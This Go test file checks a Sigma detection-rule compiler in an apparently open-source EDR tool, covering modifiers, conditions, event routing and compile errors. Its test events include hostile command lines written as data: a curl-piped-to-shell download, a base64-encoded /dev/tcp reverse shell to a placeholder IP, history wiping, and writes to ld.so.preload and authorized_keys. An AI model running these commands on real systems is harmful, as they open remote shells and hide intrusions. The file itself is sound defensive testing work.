package sigma

import (
	"errors"
	"os"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"

	"github.com/cordon-edr/cordon/detectors"
	"github.com/cordon-edr/cordon/protocol/ecs"
)

// compileOne compiles a rule made of the given logsource category and
// detection section.
func compileOne(t testing.TB, category, detection string) *Rule {
	t.Helper()
	src := "title: test rule\nid: 00000000-0000-4000-8000-000000000001\nlogsource:\n    product: linux\n"
	if category != "" {
		src += "    category: " + category + "\n"
	}
	src += "detection:\n" + indent(detection)
	rules, err := Parse("test.yml", []byte(src))
	if err != nil {
		t.Fatalf("compile:\n%s\n%v", src, err)
	}
	return rules[0]
}

func indent(s string) string {
	var b strings.Builder
	for _, l := range strings.Split(strings.Trim(s, "\n"), "\n") {
		b.WriteString("    " + l + "\n")
	}
	return b.String()
}

func proc(exe, cmd string) *ecs.Event {
	return &ecs.Event{
		Event: ecs.Meta{Category: ecs.CategoryProcess, Type: ecs.TypeStart},
		Process: &ecs.Process{
			PID: 42, Executable: exe, CommandLine: cmd, WorkingDirectory: "/home/Alice",
			User:   ecs.User{ID: "1000", Name: "alice"},
			Parent: &ecs.Parent{PID: 1, Executable: "/usr/bin/bash", CommandLine: "-bash"},
		},
	}
}

// matches runs the rule through a Set both with and without the
// prefilter and checks they agree.
func matches(t testing.TB, r *Rule, ev *ecs.Event) bool {
	t.Helper()
	fast := NewSet([]*Rule{r}, Options{})
	var got []bool
	for _, s := range []*Set{fast, newNaiveSet([]*Rule{r})} {
		ds := s.Detectors()
		if len(ds) != 1 {
			t.Fatalf("want one detector, got %d", len(ds))
		}
		_, ok := ds[0].Detect(ev)
		got = append(got, ok)
	}
	if got[0] != got[1] && r.route == eventRoute(ev) {
		t.Fatalf("prefiltered set says %v, full evaluation says %v", got[0], got[1])
	}
	return got[0]
}

// newNaiveSet evaluates every rule on every event: the baseline the
// prefilter is checked and measured against.
func newNaiveSet(rules []*Rule) *Set {
	s := NewSet(rules, Options{})
	s.naive = true
	return s
}

func TestMatching(t *testing.T) {
	tests := []struct {
		name      string
		detection string
		ev        *ecs.Event
		want      bool
	}{
		{"exact, case-insensitive", "sel:\n    Image: '/USR/BIN/ID'\ncondition: sel", proc("/usr/bin/id", "id"), true},
		{"exact is whole value", "sel:\n    Image: '/usr/bin/i'\ncondition: sel", proc("/usr/bin/id", "id"), false},
		{"endswith", "sel:\n    Image|endswith: '/id'\ncondition: sel", proc("/usr/bin/id", "id"), true},
		{"startswith", "sel:\n    Image|startswith: '/usr/'\ncondition: sel", proc("/usr/bin/id", "id"), true},
		{"contains list is OR", "sel:\n    CommandLine|contains:\n        - 'nope'\n        - ' -A'\ncondition: sel", proc("/usr/bin/ls", "ls -a /"), true},
		{"contains|all", "sel:\n    CommandLine|contains|all:\n        - ' -a'\n        - 'etc'\ncondition: sel", proc("/usr/bin/ls", "ls -a /"), false},
		{"contains|all holds", "sel:\n    CommandLine|contains|all:\n        - ' -a'\n        - '/'\ncondition: sel", proc("/usr/bin/ls", "ls -a /"), true},
		{"cased misses", "sel:\n    CommandLine|contains|cased: 'LS'\ncondition: sel", proc("/usr/bin/ls", "ls -a"), false},
		{"cased hits", "sel:\n    CommandLine|contains|cased: 'ls'\ncondition: sel", proc("/usr/bin/ls", "ls -a"), true},
		{"wildcard star", "sel:\n    CommandLine: 'curl *|*sh'\ncondition: sel", proc("/usr/bin/curl", "curl http://x | sh"), true},
		{"wildcard question", "sel:\n    Image: '/usr/bin/pytho?3'\ncondition: sel", proc("/usr/bin/python3", "python3"), true},
		{"question is one char", "sel:\n    Image: '/usr/bin/p?3'\ncondition: sel", proc("/usr/bin/python3", "python3"), false},
		{"escaped star is literal", "sel:\n    CommandLine|contains: 'a\\*b'\ncondition: sel", proc("/bin/echo", "echo a*b"), true},
		{"escaped star no wildcard", "sel:\n    CommandLine|contains: 'a\\*b'\ncondition: sel", proc("/bin/echo", "echo axxb"), false},
		{"other backslash is literal", "sel:\n    CommandLine|contains: 'a\\nb'\ncondition: sel", proc("/bin/echo", `echo a\nb`), true},
		{"re is case-sensitive", "sel:\n    CommandLine|re: '\\s-O\\s'\ncondition: sel", proc("/usr/bin/wget", "wget -o x http://y"), false},
		{"re matches", "sel:\n    CommandLine|re: '\\s-O\\s'\ncondition: sel", proc("/usr/bin/wget", "wget -O x http://y"), true},
		{"re|i", "sel:\n    CommandLine|re|i: '\\s-O\\s'\ncondition: sel", proc("/usr/bin/wget", "wget -o x http://y"), true},
		{"keywords", "keywords:\n    - '/etc/ld.so.preload'\ncondition: keywords", proc("/usr/bin/vi", "vi /etc/LD.so.preload"), true},
		{"keywords miss", "keywords:\n    - '/etc/ld.so.preload'\ncondition: keywords", proc("/usr/bin/vi", "vi /etc/hosts"), false},
		{"keyword wildcard", "keywords:\n    - 'cat /etc/*-release'\ncondition: keywords", proc("/usr/bin/bash", "bash -c 'cat /etc/os-release'"), true},
		{"keyword is contains", "keywords:\n    - 'history -c'\ncondition: keywords", proc("/usr/bin/bash", "bash -c history -c"), true},
		{"and not filter", "sel:\n    Image|endswith: '/sh'\nfilter:\n    ParentImage|endswith: '/bash'\ncondition: sel and not filter", proc("/bin/sh", "sh"), false},
		{"1 of pattern", "selection_a:\n    Image|endswith: '/zz'\nselection_b:\n    Image|endswith: '/sh'\ncondition: 1 of selection_*", proc("/bin/sh", "sh"), true},
		{"all of pattern", "selection_a:\n    Image|endswith: '/zz'\nselection_b:\n    Image|endswith: '/sh'\ncondition: all of selection_*", proc("/bin/sh", "sh"), false},
		{"all of them", "a:\n    Image|endswith: '/sh'\nb:\n    CommandLine: 'sh'\ncondition: all of them", proc("/bin/sh", "sh"), true},
		{"parentheses", "a:\n    Image|endswith: '/sh'\nb:\n    CommandLine: 'x'\nc:\n    CommandLine: 'sh'\ncondition: a and (b or c)", proc("/bin/sh", "sh"), true},
		{"not binds tighter", "a:\n    Image|endswith: '/sh'\nb:\n    CommandLine: 'sh'\ncondition: not a and b", proc("/bin/sh", "sh"), false},
		{"list of maps is OR", "sel:\n    - Image|endswith: '/zz'\n    - CommandLine: 'sh'\ncondition: sel", proc("/bin/sh", "sh"), true},
		{"null field", "sel:\n    Image|endswith: '/sh'\n    ParentCommandLine: null\ncondition: sel", proc("/bin/sh", "sh"), false},
		{"exists", "sel:\n    ParentImage|exists: true\ncondition: sel", proc("/bin/sh", "sh"), true},
		{"exists false", "sel:\n    TargetFilename|exists: false\n    Image: /bin/sh\ncondition: sel", proc("/bin/sh", "sh"), true},
		{"gt", "sel:\n    ProcessId|gt: 41\ncondition: sel", proc("/bin/sh", "sh"), true},
		{"lte", "sel:\n    ProcessId|lte: 41\ncondition: sel", proc("/bin/sh", "sh"), false},
		{"LogonId is the uid", "sel:\n    LogonId: 1000\ncondition: sel", proc("/bin/sh", "sh"), true},
		{"fieldref", "sel:\n    User|fieldref: User\n    Image|endswith: /sh\ncondition: sel", proc("/bin/sh", "sh"), true},
		{"fieldref contains", "sel:\n    CurrentDirectory|fieldref|contains: User\ncondition: sel", proc("/bin/sh", "sh"), true},
		{"neq", "sel:\n    User|neq: root\n    Image|endswith: /sh\ncondition: sel", proc("/bin/sh", "sh"), true},
		{"base64|contains", "sel:\n    CommandLine|base64|contains: 'bash -i'\ncondition: sel", proc("/bin/sh", "echo YmFzaCAtaQ== | base64 -d | sh"), true},
		{"base64offset|contains", "sel:\n    CommandLine|base64offset|contains: '/dev/tcp/'\ncondition: sel", proc("/bin/sh", "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQ= | base64 -d | sh"), true},
		{"windash", "sel:\n    CommandLine|windash|contains: ' -x '\ncondition: sel", proc("/bin/sh", "tool /x y"), true},
		{"utf16le", "sel:\n    CommandLine|wide|contains: 'ab'\ncondition: sel", proc("/bin/sh", "x a\x00b\x00 y"), true},
		{"route: file rule ignores process events", "sel:\n    Image|endswith: '/sh'\ncondition: sel", proc("/bin/sh", "sh"), true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := compileOne(t, "process_creation", tt.detection)
			if got := matches(t, r, tt.ev); got != tt.want {
				t.Errorf("got %v, want %v", got, tt.want)
			}
		})
	}
}

func fileEvent(exe, path, mode string) *ecs.Event {
	return &ecs.Event{
		Event:   ecs.Meta{Category: ecs.CategoryFile, Type: ecs.TypeCreation},
		Process: &ecs.Process{PID: 7, Executable: exe},
		File:    &ecs.File{Path: path, Mode: mode},
	}
}

func netEvent(exe, ip string, port int, dir string) *ecs.Event {
	return &ecs.Event{
		Event:       ecs.Meta{Category: ecs.CategoryNetwork, Type: ecs.TypeConnection},
		Process:     &ecs.Process{PID: 8, Executable: exe},
		Destination: &ecs.Endpoint{IP: ip, Port: port},
		Network:     &ecs.Network{Transport: "tcp", Direction: dir},
	}
}

func TestRouting(t *testing.T) {
	fileRule := compileOne(t, "file_event", "sel:\n    TargetFilename|endswith: '/authorized_keys'\ncondition: sel")
	netRule := compileOne(t, "network_connection", "sel:\n    DestinationPort: 4444\n    Initiated: 'true'\n    DestinationIp|cidr: '198.51.100.0/24'\ncondition: sel")
	procRule := compileOne(t, "process_creation", "sel:\n    Image|endswith: '/sh'\ncondition: sel")
	tests := []struct {
		name string
		r    *Rule
		ev   *ecs.Event
		want bool
	}{
		{"file rule on file event", fileRule, fileEvent("/bin/sh", "/root/.ssh/authorized_keys", ""), true},
		{"file rule on process event", fileRule, proc("/bin/sh", "sh /root/.ssh/authorized_keys"), false},
		{"process rule on file event", procRule, fileEvent("/bin/sh", "/x", ""), false},
		{"network rule", netRule, netEvent("/bin/bash", "198.51.100.7", 4444, "egress"), true},
		{"network rule, inbound", netRule, netEvent("/bin/bash", "198.51.100.7", 4444, "ingress"), false},
		{"network rule, other net", netRule, netEvent("/bin/bash", "203.0.113.7", 4444, "egress"), false},
		{"network rule, other port", netRule, netEvent("/bin/bash", "198.51.100.7", 44444, "egress"), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := matches(t, tt.r, tt.ev); got != tt.want {
				t.Errorf("got %v, want %v", got, tt.want)
			}
		})
	}
	auditd, err := Parse("a.yml", []byte("title: t\nlogsource:\n  product: linux\n  service: auditd\ndetection:\n  sel:\n    type: EXECVE\n  condition: sel\n"))
	if err != nil {
		t.Fatal(err)
	}
	if ok, why := auditd[0].Routed(); ok || !strings.Contains(why, "auditd") {
		t.Errorf("auditd rule: routed %v (%q), want not routed, naming auditd", ok, why)
	}
	if n := len(NewSet(auditd, Options{}).Detectors()); n != 0 {
		t.Errorf("an unrouted rule became %d detectors", n)
	}
}

func TestCompileErrors(t *testing.T) {
	tests := []struct {
		name, src string
		line      int
		want      string
		is        error
	}{
		{"yaml", "title: t\ndetection: [\n", 2, "invalid YAML", nil},
		{"no title", "detection:\n  sel:\n    a: b\n  condition: sel\n", 1, "missing title", nil},
		{"no condition", "title: t\ndetection:\n  sel:\n    a: b\n", 3, "missing condition", nil},
		{"unknown search", "title: t\ndetection:\n  sel:\n    a: b\n  condition: sel and other\n", 5, `unknown search "other"`, nil},
		{"unknown modifier", "title: t\ndetection:\n  sel:\n    a|sartswith: b\n  condition: sel\n", 4, `unknown modifier "sartswith"`, nil},
		{"bad regexp", "title: t\ndetection:\n  sel:\n    a|re: '(?<=x)y'\n  condition: sel\n", 4, "re:", nil},
		{"all with one value", "title: t\ndetection:\n  sel:\n    a|contains|all: b\n  condition: sel\n", 4, "at least two", nil},
		{"bad level", "title: t\nlevel: severe\ndetection:\n  sel:\n    a: b\n  condition: sel\n", 2, "level", nil},
		{"count", "title: t\ndetection:\n  sel:\n    a: b\n  condition: sel | count() by host > 5\n", 5, "count()", ErrCorrelation},
		{"near", "title: t\ndetection:\n  sel:\n    a: b\n  timeframe: 5m\n  condition: sel | near sel\n", 6, "near", ErrCorrelation},
		{"correlation format", "title: t\ncorrelation:\n  type: event_count\n", 2, "correlation", ErrCorrelation},
		{"collection", "action: global\ntitle: t\n", 1, "action: global", ErrUnsupported},
		{"expand", "title: t\ndetection:\n  sel:\n    a|expand: '%x%'\n  condition: sel\n", 4, "expand", ErrUnsupported},
		{"bad cidr", "title: t\ndetection:\n  sel:\n    a|cidr: 10.0.0.0/33\n  condition: sel\n", 4, "cidr", nil},
		{"gt not a number", "title: t\ndetection:\n  sel:\n    a|gt: ten\n  condition: sel\n", 4, "number", nil},
		{"pattern without of", "title: t\ndetection:\n  sel:\n    a: b\n  condition: sel*\n", 5, "needs", nil},
		{"unbalanced", "title: t\ndetection:\n  sel:\n    a: b\n  condition: (sel\n", 5, "missing )", nil},
		{"nothing matches of", "title: t\ndetection:\n  sel:\n    a: b\n  condition: 1 of x*\n", 5, "no search matches", nil},
		{"duplicate key", "title: t\ntitle: u\n", 2, "duplicate", nil},
		{"mixed list", "title: t\ndetection:\n  sel:\n    - a: b\n    - c\n  condition: sel\n", 4, "either maps or keywords", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse("r.yml", []byte(tt.src))
			var se *Error
			if !errors.As(err, &se) {
				t.Fatalf("got %v, want an *Error", err)
			}
			if se.File != "r.yml" || se.Line != tt.line || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("got %q (line %d), want line %d and %q", err, se.Line, tt.line, tt.want)
			}
			if tt.is != nil && !errors.Is(err, tt.is) {
				t.Errorf("%v is not %v", err, tt.is)
			}
		})
	}
}

func TestMeta(t *testing.T) {
	src := `title: Meta
id: 11111111-2222-4333-8444-555555555555
author: Someone
date: 2024-01-02
modified: 2025-03-04
references:
    - https://example.com/a
tags:
    - attack.defense_evasion
    - attack.defense-impairment
    - attack.t1562.001
    - attack.t1059.004
    - attack.execution
    - cve.2021-1234
logsource:
    category: process_creation
    product: linux
detection:
    sel:
        Image: x
    condition: sel
level: informational
`
	rules, err := Parse("m.yml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	m := rules[0].Meta("DRL-1.1")
	want := detectors.Rule{
		ID: "11111111-2222-4333-8444-555555555555", Name: "Meta", Version: "2025-03-04",
		Author: "Someone", License: "DRL-1.1", References: []string{"https://example.com/a"},
		Severity: "low", Tactics: []string{"TA0005", "TA0112", "TA0002"}, Techniques: []string{"T1685", "T1059.004"},
	}
	if got, w := strings.Join(m.Tactics, ",")+"|"+strings.Join(m.Techniques, ","), strings.Join(want.Tactics, ",")+"|"+strings.Join(want.Techniques, ","); got != w {
		t.Errorf("attack: got %s, want %s", got, w)
	}
	if m.ID != want.ID || m.Name != want.Name || m.Version != want.Version || m.Author != want.Author || m.License != want.License || m.Severity != want.Severity || len(m.References) != 1 {
		t.Errorf("got %+v, want %+v", m, want)
	}
	rules[0].Modified = ""
	if v := rules[0].Meta("").Version; v != "1" {
		t.Errorf("version without modified: got %q, want 1", v)
	}
	for level, sev := range map[string]string{"": "medium", "low": "low", "medium": "medium", "high": "high", "critical": "critical"} {
		if got := Severity(level); got != sev {
			t.Errorf("Severity(%q) = %q, want %q", level, got, sev)
		}
	}
}

// TestSetSharesWork checks that several rules of one set each see each
// event, called in order as the Engine calls them, and that a reused
// event struct is not mistaken for the previous event.
func TestSetSharesWork(t *testing.T) {
	a := compileOne(t, "process_creation", "sel:\n    Image|endswith: '/sh'\ncondition: sel")
	b := compileOne(t, "process_creation", "sel:\n    CommandLine|contains: 'evil'\ncondition: sel")
	e := detectors.NewEngine(NewSet([]*Rule{a, b}, Options{}).Detectors()...)
	ev := proc("/bin/sh", "sh evil")
	if n := len(e.Process(ev)); n != 2 {
		t.Fatalf("first event: %d findings, want 2", n)
	}
	ev.Process.CommandLine = "sh good"
	if n := len(e.Process(ev)); n != 1 {
		t.Fatalf("same struct, new content: %d findings, want 1", n)
	}
	ev.Process.Executable = "/bin/ls"
	ev.Process.CommandLine = "ls EVIL"
	if fs := e.Process(ev); len(fs) != 1 || !strings.Contains(fs[0].Summary, "/bin/ls") {
		t.Fatalf("third event: %+v", fs)
	}
}

func TestNonASCIIFallsBackToFullEvaluation(t *testing.T) {
	r := compileOne(t, "process_creation", "sel:\n    CommandLine|contains: 'kill'\ncondition: sel")
	// U+212A KELVIN SIGN lower-cases to an ASCII k.
	if !matches(t, r, proc("/bin/x", "\u212Aill -9 1")) {
		t.Error("non-ASCII command line missed")
	}
}

// TestUnsupportedCorpus asserts that every SigmaHQ rule that needs
// correlation either compiles or is refused with a clear error at the
// right line.
func TestUnsupportedCorpus(t *testing.T) {
	res, err := LoadFS(os.DirFS("testdata/unsupported"), "linux")
	if err != nil {
		t.Fatal(err)
	}
	if len(res) != 7 {
		t.Fatalf("%d files, want 7", len(res))
	}
	refused := 0
	for _, r := range res {
		if r.Err == nil {
			continue
		}
		refused++
		var se *Error
		if !errors.As(r.Err, &se) || se.Line == 0 || se.File != r.File {
			t.Errorf("%s: %v: want an error with file and line", r.File, r.Err)
		}
		if !errors.Is(r.Err, ErrCorrelation) {
			t.Errorf("%s: %v: want a correlation refusal", r.File, r.Err)
		}
	}
	if refused != 6 {
		t.Errorf("%d refused, want the 6 that use count or near", refused)
	}
}

func TestSelection(t *testing.T) {
	tests := []struct {
		src  string
		ev   *ecs.Event
		want bool
		err  string
	}{
		{"Image|endswith: /sh\nCommandLine|contains: EVIL", proc("/bin/sh", "sh evil"), true, ""},
		{"Image|endswith: /sh\nCommandLine|contains: EVIL", proc("/bin/sh", "sh good"), false, ""},
		{"- Image: /bin/ls\n- User: alice", proc("/bin/sh", "sh"), true, ""},
		{"process.working_directory|startswith: /home/", proc("/bin/sh", "sh"), true, ""},
		{"Nope: x", nil, false, "field Nope"},
		{"Image|bogus: x", nil, false, "line 1"},
	}
	for _, tt := range tests {
		var n yaml.Node
		if err := yaml.Unmarshal([]byte(tt.src), &n); err != nil {
			t.Fatal(err)
		}
		match, err := Selection(n.Content[0])
		if tt.err != "" {
			if err == nil || !strings.Contains(err.Error(), tt.err) {
				t.Errorf("%q: error %v, want %q", tt.src, err, tt.err)
			}
			continue
		}
		if err != nil {
			t.Fatalf("%q: %v", tt.src, err)
		}
		if got := match(tt.ev); got != tt.want {
			t.Errorf("%q: got %v, want %v", tt.src, got, tt.want)
		}
	}
}
